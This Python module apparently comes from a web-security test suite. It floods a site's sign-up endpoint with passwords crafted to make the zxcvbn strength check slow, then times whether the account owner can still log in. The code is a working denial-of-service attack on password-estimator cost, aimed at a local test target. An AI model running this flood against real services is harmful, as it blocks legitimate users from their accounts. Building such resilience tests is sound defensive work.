"""Passwords that take zxcvbn as long as a search could find, sent in numbers: owners have to get in meanwhile."""

import asyncio
import time

from attacks.attack import Verdict
from attacks.browser import post
from attacks.guessing import BOB, is_in, sign_up
from attacks.victims import Site

SIGN_UPS = 20
"""As many as an address may make in a minute."""
WORST = ("4@8({[<369&#!|10$5+7%2" * 4)[:72]
"""Each sign may stand for a letter or two: as many ways to read it as there are."""
PROMPT = 2.0
"""Seconds in which the owner has to be in."""


async def run(site: Site) -> Verdict:
    """Send the sign-ups at once, and log in elsewhere."""
    await sign_up(site, BOB, source="127.0.5.1")
    flood = [
        asyncio.ensure_future(post(site, "/signup", BOB | {"email": f"e{number}@example.com", "password": WORST}))
        for number in range(SIGN_UPS)
    ]
    await asyncio.sleep(0.5)
    start = time.monotonic()
    owner = await post(site, "/login", BOB, source="127.0.5.1")
    took = time.monotonic() - start
    for each in flood:
        each.cancel()
    await asyncio.gather(*flood, return_exceptions=True)
    finding = f"the owner gets {owner.status or 'no answer'} after {took:.1f} s"
    return Verdict(not is_in(owner) or took > PROMPT, SIGN_UPS, finding)
